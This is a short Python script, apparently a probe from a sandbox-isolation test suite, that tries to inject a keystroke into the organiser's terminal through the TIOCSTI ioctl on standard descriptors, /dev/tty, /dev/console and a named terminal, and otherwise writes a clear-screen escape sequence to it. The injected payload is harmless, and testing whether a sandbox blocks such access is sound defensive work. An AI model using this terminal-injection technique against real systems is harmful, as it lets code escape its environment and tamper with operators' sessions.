"""Types into the organiser's terminal, and writes on it; argument 2 names it."""

import fcntl
import os
import sys
import termios

from attack import each, solo


def attack():
    def use(path):
        terminal = path if isinstance(path, int) else os.open(path, os.O_RDWR | os.O_NOCTTY)
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
        except OSError:
            os.write(terminal, b"\x1b[2J") if terminal > 2 else fcntl.ioctl(
                terminal, termios.TIOCSTI, b"x"
            )

    return each([0, 1, 2, "/dev/tty", "/dev/console", sys.argv[2]], use)


solo(attack)
